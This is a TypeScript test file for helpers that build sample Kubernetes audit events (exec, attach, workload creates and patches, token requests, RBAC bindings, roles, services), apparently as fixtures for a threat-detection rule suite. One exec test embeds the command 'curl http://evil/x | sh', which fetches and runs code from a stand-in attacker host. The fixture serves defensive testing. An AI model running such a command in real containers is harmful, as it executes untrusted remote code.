import { AuditStage } from '../../../shared/kubernetes/auditEvent';
import { podSpecOf, workloadContainers, writtenObject } from '../../../shared/kubernetes/workloads';
import {
  attachEvent,
  auditEvent,
  bindingEvent,
  bindingPatchEvent,
  ephemeralContainerEvent,
  execEvent,
  roleEvent,
  serviceEvent,
  servicePatchEvent,
  tokenRequestEvent,
  workloadEvent,
  workloadPatchEvent,
} from '../../../shared/detection/exampleEvents';
import { execCommandArgs, streamContainerName } from '../../../shared/detection/predicates/commandLines';
import { bindingRoleRef, writtenSubjects } from '../../../shared/detection/predicates/rbacBindings';
import { writtenRoleRules } from '../../../shared/detection/predicates/rbacRoles';
import { apiGroupOf, queryValues } from '../../../shared/detection/predicates/requests';
import { serviceAfterRequest } from '../../../shared/detection/predicates/services';
import { recordOf } from '../../support/ruleHarness';

const eventOf = (raw: Record<string, unknown>) => recordOf(raw).event;

describe('exampleEvents', () => {
  describe('auditEvent', () => {
    it('when a subresource of an object is created, then its path names the object; a plain create names none', () => {
      expect(auditEvent({ verb: 'create', resource: 'pods', subresource: 'binding', namespace: 'shop', name: 'web-1' }).requestURI).toBe(
        '/api/v1/namespaces/shop/pods/web-1/binding',
      );
      expect(auditEvent({ verb: 'create', resource: 'pods', namespace: 'shop', name: 'web-1' }).requestURI).toBe('/api/v1/namespaces/shop/pods');
    });
  });

  describe('execEvent', () => {
    it('when a command is given, then each argument is a command parameter, decoded back in order, before the container and kubectl -it streams', () => {
      const raw = execEvent({ namespace: 'shop', pod: 'web-1', container: 'web', command: ['sh', '-c', 'curl http://evil/x | sh'] });
      expect(raw.requestURI).toBe(
        '/api/v1/namespaces/shop/pods/web-1/exec?command=sh&command=-c&command=curl%20http%3A%2F%2Fevil%2Fx%20%7C%20sh&container=web&stdin=true&stdout=true&tty=true',
      );
      const event = eventOf(raw);
      expect(execCommandArgs(event)).toEqual(['sh', '-c', 'curl http://evil/x | sh']);
      expect(streamContainerName(event)).toBe('web');
      expect(event).toMatchObject({ verb: 'create', stage: AuditStage.ResponseStarted, responseStatus: { code: 101 } });
      expect(event.objectRef).toMatchObject({ resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1' });
    });

    it('when streams, verb and outcome are given, then the query and the event follow them', () => {
      const event = eventOf(
        execEvent({ namespace: 'shop', pod: 'web-1', container: 'web', command: ['id'], streams: ['stdout'], verb: 'get', code: 403, stage: AuditStage.ResponseComplete }),
      );
      expect(queryValues(event, 'stdin')).toEqual([]);
      expect(queryValues(event, 'stdout')).toEqual(['true']);
      expect(event).toMatchObject({ verb: 'get', stage: AuditStage.ResponseComplete, responseStatus: { code: 403 } });
    });
  });

  describe('attachEvent', () => {
    it('when built, then it is an attach to the container with no command', () => {
      const event = eventOf(attachEvent({ namespace: 'shop', pod: 'worker-0', container: 'worker' }));
      expect(event.requestURI).toBe('/api/v1/namespaces/shop/pods/worker-0/attach?container=worker&stdin=true&stdout=true&tty=true');
      expect(execCommandArgs(event)).toEqual([]);
    });
  });

  describe('workloadEvent', () => {
    it.each([
      ['pods', '', 'Pod'],
      ['daemonsets', 'apps', 'DaemonSet'],
      ['jobs', 'batch', 'Job'],
      ['cronjobs', 'batch', 'CronJob'],
    ] as const)('when the resource is %s, then the API group is "%s" and the body a %s around the pod spec', (resource, group, kind) => {
      const event = eventOf(workloadEvent(resource, { containers: [{ name: 'app', image: 'nginx:1.27' }] }, { namespace: 'shop', name: 'web' }));
      expect(apiGroupOf(event)).toBe(group);
      expect(writtenObject(event)).toMatchObject({ kind, metadata: { name: 'web', namespace: 'shop' } });
      expect(workloadContainers(event).map((c) => c.image)).toEqual(['nginx:1.27']);
      expect(event.objectRef).toMatchObject({ namespace: 'shop', name: 'web' });
    });

    it('when no namespace is given, then the event and the manifest are in default; a CronJob takes the schedule given', () => {
      const event = eventOf(workloadEvent('cronjobs', { containers: [] }, { schedule: '*/5 * * * *' }));
      expect(event.objectRef?.namespace).toBe('default');
      expect(writtenObject(event)).toMatchObject({ metadata: { namespace: 'default' }, spec: { schedule: '*/5 * * * *' } });
    });

    it('when a patch is built, then the patch is the body of a patch of the named workload', () => {
      const event = eventOf(workloadPatchEvent('statefulsets', { namespace: 'data', name: 'cache' }, { spec: { template: { spec: { hostIPC: true } } } }));
      expect(event).toMatchObject({ verb: 'patch', objectRef: { resource: 'statefulsets', apiGroup: 'apps', namespace: 'data', name: 'cache' } });
      expect(podSpecOf(event)).toEqual({ hostIPC: true });
    });
  });

  describe('ephemeralContainerEvent', () => {
    it('when built, then it patches the pod\'s ephemeralcontainers with the container', () => {
      const event = eventOf(ephemeralContainerEvent({ namespace: 'shop', name: 'web-1' }, { name: 'debugger', image: 'busybox:1.36' }));
      expect(event).toMatchObject({ verb: 'patch', objectRef: { resource: 'pods', subresource: 'ephemeralcontainers', name: 'web-1' } });
      expect(workloadContainers(event).map((c) => c.name)).toEqual(['debugger']);
    });
  });

  describe('tokenRequestEvent', () => {
    it('when a spec is given, then it is a TokenRequest for the account, at its token path', () => {
      const event = eventOf(tokenRequestEvent({ namespace: 'kube-system', name: 'coredns' }, { expirationSeconds: 3600 }));
      expect(event.requestURI).toBe('/api/v1/namespaces/kube-system/serviceaccounts/coredns/token');
      expect(event.requestObject).toEqual({ kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', spec: { expirationSeconds: 3600 } });
    });

    it('when no spec is given, then no body is logged', () => {
      expect(eventOf(tokenRequestEvent({ namespace: 'shop', name: 'ci' })).requestObject).toBeUndefined();
    });
  });

  describe('bindingEvent', () => {
    const roleRef = { kind: 'ClusterRole', name: 'edit' };
    const subjects = [{ kind: 'User', name: 'eve' }];

    it('when a namespace is given, then it writes a RoleBinding there; without one, a ClusterRoleBinding', () => {
      const roleBinding = eventOf(bindingEvent({ name: 'b', namespace: 'shop', roleRef, subjects }));
      expect(roleBinding.objectRef).toMatchObject({ resource: 'rolebindings', apiGroup: 'rbac.authorization.k8s.io', namespace: 'shop', name: 'b' });
      expect(writtenSubjects(roleBinding)).toEqual(subjects);
      const clusterBinding = eventOf(bindingEvent({ name: 'b', roleRef, subjects }, { code: 403 }));
      expect(clusterBinding.objectRef?.resource).toBe('clusterrolebindings');
      expect(clusterBinding.responseStatus?.code).toBe(403);
    });

    it('when a patch is built, then the patch is the body and the patched binding the response', () => {
      const event = eventOf(bindingPatchEvent({ name: 'b', roleRef, subjects }, { metadata: { labels: { team: 'ops' } } }));
      expect(event.verb).toBe('patch');
      expect(writtenSubjects(event)).toEqual([]);
      expect(bindingRoleRef(event)).toEqual(roleRef);
    });
  });

  describe('roleEvent', () => {
    it('when a namespace is given, then it writes a Role there with the rules; without one, a ClusterRole', () => {
      const rules = [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }];
      const role = eventOf(roleEvent({ name: 'r', namespace: 'shop', rules }));
      expect(role.objectRef).toMatchObject({ resource: 'roles', namespace: 'shop' });
      expect(writtenObject(role)?.kind).toBe('Role');
      expect(writtenRoleRules(role)).toHaveLength(1);
      expect(eventOf(roleEvent({ name: 'r', rules })).objectRef?.resource).toBe('clusterroles');
    });
  });

  describe('serviceEvent', () => {
    const service = { name: 'web', namespace: 'shop', spec: { type: 'NodePort', ports: [{ port: 80 }] }, labels: { app: 'web' } };

    it('when built, then it creates the Service with its labels', () => {
      const event = eventOf(serviceEvent(service));
      expect(event).toMatchObject({ verb: 'create', objectRef: { resource: 'services', namespace: 'shop', name: 'web' } });
      expect(serviceAfterRequest(event)).toMatchObject({ type: 'NodePort', labels: { app: 'web' } });
    });

    it('when a patch is built, then the patch is the body and the patched Service the response', () => {
      const event = eventOf(servicePatchEvent(service, { spec: { type: 'NodePort' } }));
      expect(event.requestObject).toEqual({ spec: { type: 'NodePort' } });
      expect(event.responseObject).toMatchObject({ kind: 'Service', metadata: { name: 'web', labels: { app: 'web' } } });
    });
  });
});
